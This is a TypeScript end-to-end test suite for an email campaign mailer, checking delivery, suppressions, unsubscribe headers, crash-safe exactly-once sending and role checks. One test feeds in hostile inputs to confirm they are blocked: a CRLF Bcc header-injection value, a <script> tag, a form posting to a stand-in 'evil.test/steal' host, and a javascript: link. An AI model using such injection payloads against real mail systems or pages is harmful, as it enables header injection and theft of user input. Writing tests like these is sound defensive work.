import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { signedInUser, type SignedInUser } from '../support/rest-clients';
import { createCampaign, createList, drain, htmlOf, seedSubscribers } from '../support/email';
import { startRealSmtpServer, type RealSmtpServer } from '../support/smtp-server';
import { startTestServer, type TestServer } from '../support/test-server';
import { seedUser, uniqueEmail } from '../support/users';
import { clientWithToken } from '../support/rest-clients';
import { mintSession } from '../support/tokens';

/**
 * Campaigns end to end (decision 0020): supabase-js as the app, the server's job runner, a real SMTP server
 * (smtp-server) receiving and parsing every message.
 */

let smtp: RealSmtpServer;
let server: TestServer;
let owner: SignedInUser;
/** Whether each message's exactly-once marker was committed when its final dot reached the SMTP server. */
const markedAtFinalDot: boolean[] = [];
const queuedMarkedAtFinalDot: boolean[] = [];
/** Recipients whose first RCPT TO had its connection dropped. */
const dropped = new Set<string>();

beforeAll(async () => {
  smtp = await startRealSmtpServer({
    rejectRecipient: (address) => (address.startsWith('refused-') ? { code: 550, message: 'No such user here' } : null),
    dropAtRecipient: (address) => address.startsWith('drop-once-') && !dropped.has(address) && Boolean(dropped.add(address)),
    onFinalDot: async (_session, raw) => {
      const delivery = /Message-ID: <d(\d+)\./i.exec(raw)?.[1];
      const queued = /Message-ID: <queued-(\d+)\./i.exec(raw)?.[1];
      if (delivery) {
        const [row] = await server.sql<{ marked: boolean }[]>`select data_completed_at is not null as marked from public.email_deliveries where id = ${delivery}`;
        markedAtFinalDot.push(row?.marked ?? false);
      } else if (queued) {
        const [row] = await server.sql<{ marked: boolean }[]>`select data_completed_at is not null as marked from private.outgoing_emails where id = ${queued}`;
        queuedMarkedAtFinalDot.push(row?.marked ?? false);
      }
    },
  });
  server = await startTestServer({ SMTP_URL: smtp.url, SMTP_FROM: 'Beyond Brochures <team@bb.test>', EMAIL_RATE_PER_SECOND: '1000' });
  owner = await signedInUser(server);
});

afterAll(async () => {
  await server?.close();
  await smtp?.close();
});

beforeEach(() => {
  smtp.messages.length = 0;
});

async function status(campaignId: string) {
  const { data } = await owner.client.from('email_campaigns').select('status, sent_count, failed_count, unconfirmed_count, recipients_total, paused_reason').eq('id', campaignId).single();
  return data!;
}

describe('a campaign', () => {
  it('reaches every confirmed member of its lists once, minus suppressions, with its unsubscribe headers, the workspace’s sender and a Message-ID each', async () => {
    const ws = owner.organizationId;
    await owner.client.from('email_settings').update({ from_name: 'Acme News', from_email: 'news@acme.test', reply_to: 'hello@acme.test' }).eq('organization_id', ws);
    const a = await createList(owner.client, ws, { opt_in: 'single' });
    const b = await createList(owner.client, ws, { opt_in: 'single' });
    const both = uniqueEmail('both');
    const onlyA = [uniqueEmail('a1'), uniqueEmail('a2')];
    const suppressed = uniqueEmail('suppressed');
    await seedSubscribers(server.sql, ws, b.id, [both]);
    await seedSubscribers(server.sql, ws, a.id, [both]);
    await seedSubscribers(server.sql, ws, a.id, [...onlyA, suppressed], { first_name: 'Ann' });
    await owner.client.from('email_suppressions').insert({ organization_id: ws, email: suppressed });
    const campaignId = await createCampaign(owner.client, ws, [a.id, b.id]);

    const { error } = await owner.client.rpc('send_email_campaign', { campaign_id: campaignId });
    expect(error).toBeNull();
    await drain(server);

    expect(await status(campaignId)).toMatchObject({ status: 'sent', sent_count: 3, recipients_total: 3, failed_count: 0 });
    const recipients = smtp.messages.flatMap((message) => message.recipients).sort();
    expect(recipients).toEqual([both, ...onlyA].sort());
    const ids = new Set(smtp.messages.map((message) => message.messageId));
    expect(ids.size).toBe(3);
    for (const message of smtp.messages) {
      expect(message.header('list-unsubscribe')).toMatch(/^<http:\/\/127\.0\.0\.1:\d+\/e\/u\/[A-Za-z0-9_-]{40,}>$/);
      expect(message.header('list-unsubscribe-post')).toBe('List-Unsubscribe=One-Click');
      expect(htmlOf(message)).toContain('/e/u/');
      expect(message.parsed.text).toContain('Unsubscribe: http://127.0.0.1');
      // The workspace's sender, as the SMTP server received it (not only on the test sent to oneself).
      expect(message.header('from')).toBe('Acme News <news@acme.test>');
      expect(message.header('reply-to')).toBe('hello@acme.test');
    }
    const toBoth = smtp.to(both)[0]!;
    expect(toBoth.parsed.subject).toBe('News for you');
    expect(smtp.to(onlyA[0]!)[0]!.parsed.subject).toBe('News for Ann');
    // The marker was committed before every final dot.
    expect(markedAtFinalDot.length).toBeGreaterThanOrEqual(3);
    expect(markedAtFinalDot.every(Boolean)).toBe(true);
    const { data: deliveries } = await owner.client.from('email_deliveries').select('status, message_id, smtp_response').eq('campaign_id', campaignId);
    expect(deliveries!.map((d) => d.status)).toEqual(['sent', 'sent', 'sent']);
    expect(deliveries!.every((d) => d.smtp_response?.startsWith('250'))).toBe(true);
    await owner.client.from('email_settings').update({ from_name: null, from_email: null, reply_to: null }).eq('organization_id', ws);
  });

  it('keeps merge fields from adding headers or recipients, and templates from carrying script or forms', async () => {
    const ws = owner.organizationId;
    const list = await createList(owner.client, ws, { opt_in: 'single' });
    const target = uniqueEmail('target');
    await seedSubscribers(server.sql, ws, list.id, [target], { first_name: 'Eve\r\nBcc: evil@attacker.test' });
    const campaignId = await createCampaign(owner.client, ws, [list.id], {
      subject: 'Hi {{first_name}}',
      blocks: [
        { type: 'text', markdown: 'Hi {{first_name}} <script>alert(1)</script> <form action="https://evil.test/steal"><input name=p></form> [x](javascript:alert(1))' },
      ] as never,
    });
    await owner.client.rpc('send_email_campaign', { campaign_id: campaignId });
    await drain(server);
    expect(smtp.messages).toHaveLength(1);
    const [message] = smtp.messages;
    expect(message!.recipients).toEqual([target]);
    expect(message!.header('bcc')).toBeUndefined();
    expect(message!.parsed.subject).toBe('Hi Eve Bcc: evil@attacker.test');
    const html = htmlOf(message!);
    expect(html).not.toMatch(/<script|<form|<input|href="javascript:/i);
    expect(html).toContain('&lt;script&gt;');
  });

  it('records a refused recipient as failed with the SMTP answer, and pauses itself after the workspace’s error threshold', async () => {
    const ws = owner.organizationId;
    await server.sql`update public.email_settings set error_threshold = 3 where organization_id = ${ws}`;
    const list = await createList(owner.client, ws, { opt_in: 'single' });
    await seedSubscribers(server.sql, ws, list.id, Array.from({ length: 6 }, (_, n) => `refused-${n}-${uniqueEmail('x')}`));
    const campaignId = await createCampaign(owner.client, ws, [list.id]);
    await owner.client.rpc('send_email_campaign', { campaign_id: campaignId });
    await drain(server);
    const state = await status(campaignId);
    expect(state.status).toBe('paused');
    expect(state.failed_count).toBeGreaterThanOrEqual(3);
    expect(state.paused_reason).toMatch(/^Paused after \d+ errors\. Last: .*550/);
    const { data: failed } = await owner.client.from('email_deliveries').select('smtp_response').eq('campaign_id', campaignId).eq('status', 'failed');
    expect(failed![0]!.smtp_response).toContain('550');
    await server.sql`update public.email_settings set error_threshold = 20 where organization_id = ${ws}`;
  });

  it('is not sent again after a kill between the final dot and the answer: unconfirmed, counted, shown to admins', async () => {
    const ws = owner.organizationId;
    const list = await createList(owner.client, ws, { opt_in: 'single' });
    const [ambiguous, fresh] = [uniqueEmail('ambiguous'), uniqueEmail('fresh')];
    await seedSubscribers(server.sql, ws, list.id, [ambiguous, fresh]);
    const campaignId = await createCampaign(owner.client, ws, [list.id]);
    // As a killed worker leaves it: the campaign sending, both recorded, one past its marker, claimed by a dead pool.
    await server.sql`
      update public.email_campaigns set status = 'sending', started_at = now(), audience_cutoff = now(), recipients_total = 2,
        cursor_contact_id = (select max(contact_id::text)::uuid from public.email_list_members where list_id = ${list.id}),
        claimed_by = 'dead-pool', claimed_until = now() - interval '1 second'
      where id = ${campaignId}`;
    await server.sql`
      insert into public.email_deliveries (organization_id, kind, campaign_id, contact_id, email, status, attempts, claimed_by, data_completed_at)
      select ${ws}, 'campaign', ${campaignId}, c.id, c.email, 'sending', 1, 'dead-pool', case when c.email = ${ambiguous} then now() end
      from public.contacts c where c.email in (${ambiguous}, ${fresh})`;
    await server.sql`select private.enqueue_job('send_email_campaign', ${server.sql.json({ workspace_id: ws, campaign_id: campaignId })}, now(), ${`campaign:${campaignId}`}, 25)`;
    await drain(server);
    expect(smtp.messages.flatMap((m) => m.recipients)).toEqual([fresh]);
    expect(await status(campaignId)).toMatchObject({ status: 'sent', sent_count: 1, unconfirmed_count: 1 });
    const [admin] = await server.sql<{ count: number }[]>`select count(*)::int as count from public.email_deliveries where campaign_id = ${campaignId} and status = 'unconfirmed'`;
    expect(admin!.count).toBe(1);
  });

  it('sends a message whose connection dropped at RCPT TO (before DATA: never sent) again, once, not as unconfirmed', async () => {
    const ws = owner.organizationId;
    const list = await createList(owner.client, ws, { opt_in: 'single' });
    const address = uniqueEmail('drop-once');
    await seedSubscribers(server.sql, ws, list.id, [address]);
    const campaignId = await createCampaign(owner.client, ws, [list.id]);
    await owner.client.rpc('send_email_campaign', { campaign_id: campaignId });
    await drain(server);
    expect(dropped.has(address)).toBe(true);
    expect(smtp.to(address)).toHaveLength(1);
    expect(await status(campaignId)).toMatchObject({ status: 'sent', sent_count: 1, unconfirmed_count: 0 });
  });

  it('cannot be sent without a worker, and a viewer cannot send it', async () => {
    const ws = owner.organizationId;
    const list = await createList(owner.client, ws, { opt_in: 'single' });
    const campaignId = await createCampaign(owner.client, ws, [list.id]);
    await server.sql`update private.job_workers set seen_at = now() - interval '10 minutes'`;
    const { error } = await owner.client.rpc('send_email_campaign', { campaign_id: campaignId });
    expect(error).toMatchObject({ code: 'P0001', details: 'sending_unavailable' });
    expect(error!.message).toMatch(/No background worker is running/);
    const { data: sendingStatus } = await owner.client.rpc('email_sending_status');
    expect(sendingStatus![0]!.worker_alive).toBe(false);
    await server.sql`update private.job_workers set seen_at = now()`;
    // The title's second half (audit of issue 28: it was not checked here): a viewer of the workspace, worker or not.
    const viewer = await signedInUser(server);
    await server.sql`insert into public.organization_members (organization_id, user_id, role) values (${ws}, ${viewer.id}, 'viewer')`;
    const { error: viewerError } = await viewer.client.rpc('send_email_campaign', { campaign_id: campaignId });
    expect(viewerError).toMatchObject({ code: '42501', details: 'role_too_low' });
    const { data: still } = await owner.client.from('email_campaigns').select('status').eq('id', campaignId).single();
    expect(still!.status).toBe('draft');
  });
});

describe('a draft campaign’s lists', () => {
  it('are lists of its own workspace: another workspace’s list id is refused on create and on edit, and nothing is kept', async () => {
    const other = await signedInUser(server);
    const theirs = await createList(other.client, other.organizationId, { opt_in: 'single' });
    const ours = await createList(owner.client, owner.organizationId, { opt_in: 'single' });

    const created = await owner.client
      .from('email_campaigns')
      .insert({ organization_id: owner.organizationId, name: 'Borrowed list', list_ids: [ours.id, theirs.id] })
      .select('id');
    expect(created.error).toMatchObject({ code: 'P0001', message: 'Some of these lists do not exist in this workspace.', details: 'unknown_lists' });
    expect((await owner.client.from('email_campaigns').select('id').eq('name', 'Borrowed list')).data).toEqual([]);

    const campaignId = await createCampaign(owner.client, owner.organizationId, [ours.id]);
    const edited = await owner.client.from('email_campaigns').update({ list_ids: [ours.id, theirs.id] }).eq('id', campaignId).select('id');
    expect(edited.error).toMatchObject({ code: 'P0001', details: 'unknown_lists' });
    // A made-up id is refused the same way; the draft keeps its own list.
    const madeUp = await owner.client.from('email_campaigns').update({ list_ids: [crypto.randomUUID()] }).eq('id', campaignId).select('id');
    expect(madeUp.error).toMatchObject({ code: 'P0001', details: 'unknown_lists' });
    const { data } = await owner.client.from('email_campaigns').select('list_ids').eq('id', campaignId).single();
    expect(data!.list_ids).toEqual([ours.id]);
    // Editing the rest of a draft whose list was deleted since still works (sending names the problem).
    await owner.client.from('email_lists').delete().eq('id', ours.id);
    const renamed = await owner.client.from('email_campaigns').update({ name: 'Renamed', list_ids: [ours.id] }).eq('id', campaignId).select('name');
    expect(renamed.error).toBeNull();
  });
});

describe('queued e-mails (the same mailer path)', () => {
  it('a test sent to oneself: the campaign as recipients get it, marked [Test], its marker committed before the final dot', async () => {
    const ws = owner.organizationId;
    const list = await createList(owner.client, ws, { opt_in: 'single' });
    const campaignId = await createCampaign(owner.client, ws, [list.id], { subject: 'Offer for {{first_name|you}}' });
    await owner.client.from('email_settings').update({ from_name: 'Acme News', from_email: 'news@acme.test', reply_to: 'hello@acme.test' }).eq('organization_id', ws);
    const { data: queuedId, error } = await owner.client.rpc('send_email_test', { campaign_id: campaignId });
    expect(error).toBeNull();
    expect(queuedId).toEqual(expect.any(Number));
    await drain(server);
    const [message] = smtp.to(owner.email);
    expect(message!.parsed.subject).toBe('[Test] Offer for Test');
    expect(message!.header('from')).toBe('Acme News <news@acme.test>');
    expect(message!.header('reply-to')).toBe('hello@acme.test');
    expect(message!.messageId).toMatch(/^<queued-\d+\.\d+@bb\.test>$/);
    expect(queuedMarkedAtFinalDot).toEqual([true]);
    await owner.client.from('email_settings').update({ from_name: null, from_email: null, reply_to: null }).eq('organization_id', ws);
  });

  it('a queued e-mail whose final dot may have gone out before a kill is not sent again: unconfirmed, listed for site admins', async () => {
    const address = uniqueEmail('queued');
    const [row] = await server.sql<{ id: string }[]>`
      insert into private.outgoing_emails (kind, recipient, payload, attempts, data_completed_at, locked_until, claimed_by)
      values ('email_test', ${address}, ${server.sql.json({ workspace_id: owner.organizationId })}, 1, now(), now() - interval '1 minute', 'dead-pool')
      returning id::text`;
    await server.sql`select private.enqueue_job('send_email', jsonb_build_object('email_id', ${row!.id}::bigint), now(), ${`email:${row!.id}`}, 8)`;
    await drain(server);
    expect(smtp.to(address)).toHaveLength(0);
    const [state] = await server.sql<{ sent_at: Date | null; unconfirmed_at: Date | null }[]>`select sent_at, unconfirmed_at from private.outgoing_emails where id = ${row!.id}`;
    expect(state).toMatchObject({ sent_at: null, unconfirmed_at: expect.any(Date) });

    const admin = await seedUser(server.sql, { siteAdmin: true });
    const session = await mintSession(server.sql, server.jwtSecret, admin.id);
    const { data } = await clientWithToken(server, session.accessToken).rpc('admin_unconfirmed_emails', {});
    expect(data!.some((entry) => entry.source === 'queue' && entry.recipient === address)).toBe(true);
    const { error } = await owner.client.rpc('admin_unconfirmed_emails', {});
    expect(error).toMatchObject({ code: '42501', details: 'not_site_admin' });
  });
});
